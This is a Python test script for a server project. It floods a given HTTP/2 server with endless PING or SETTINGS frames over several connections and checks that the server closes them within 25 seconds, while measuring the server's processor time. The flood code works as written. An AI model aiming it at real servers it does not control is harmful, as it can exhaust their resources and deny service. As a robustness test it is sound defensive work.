"""Sends PING or SETTINGS frames over HTTP/2 without end and without a request, and says how long the server answers.

    python3 tests/attack/floods.py 127.0.0.1:8317 [--connections 4] [--wait 40] [--pid PID]

The server has held if it closes each connection within 25 s (20 s for the first request, and 5 s to close).
"""

import argparse
import os
import socket
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
FRAMES = {
    "pings": b"\x00\x00\x08\x06\x00\x00\x00\x00\x00deadbeef",
    "settings": b"\x00\x00\x00\x04\x00\x00\x00\x00\x00",
}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("server", help="ADDRESS:PORT")
    parser.add_argument("--connections", type=int, default=4, help="of each kind")
    parser.add_argument("--wait", type=int, default=40, help="seconds")
    parser.add_argument("--pid", type=int, help="process id of the server, to show its processor time")
    arguments = parser.parse_args()
    for kind, frame in FRAMES.items():
        ended, sent = [], []
        before = processor_time(arguments.pid)
        threads = [
            threading.Thread(target=flood, args=(arguments, frame, ended, sent), daemon=True)
            for _ in range(arguments.connections)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        used = processor_time(arguments.pid) - before
        held = len(ended) == arguments.connections
        lasted = f"closed after {min(ended):.1f} to {max(ended):.1f} s" if ended else "none closed"
        print(
            "held" if held else "GOT THROUGH",
            f"- {kind}: {len(ended)} of {arguments.connections} {lasted}; {sum(sent)} frames; server used {used:.1f} s",
            flush=True,
        )


def flood(arguments, frame, ended, sent):
    host, port = arguments.server.rsplit(":", 1)
    frames, count = frame * 1000, 0
    began = time.monotonic()
    with socket.create_connection((host, int(port)), timeout=arguments.wait) as connection:
        threading.Thread(target=drain, args=(connection,), daemon=True).start()
        try:
            connection.sendall(PREFACE)
            while time.monotonic() - began < arguments.wait:
                connection.sendall(frames)
                count += 1000
        except OSError:
            ended.append(time.monotonic() - began)
    sent.append(count)


def drain(connection):
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass


def processor_time(pid):
    if pid is None:
        return 0.0
    with open(f"/proc/{pid}/stat", encoding="ascii") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


if __name__ == "__main__":
    main()
